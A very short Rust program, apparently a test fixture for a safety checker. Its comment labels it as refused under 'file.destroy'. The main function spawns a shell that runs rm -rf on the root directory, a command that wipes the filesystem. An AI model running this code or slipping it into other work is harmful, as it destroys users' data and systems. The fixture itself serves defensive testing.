// nacre: refused file.destroy
use std::process::Command;

fn main() {
    Command::new("sh").arg("-c").arg(r#"rm -rf "/""#).spawn().unwrap();
}
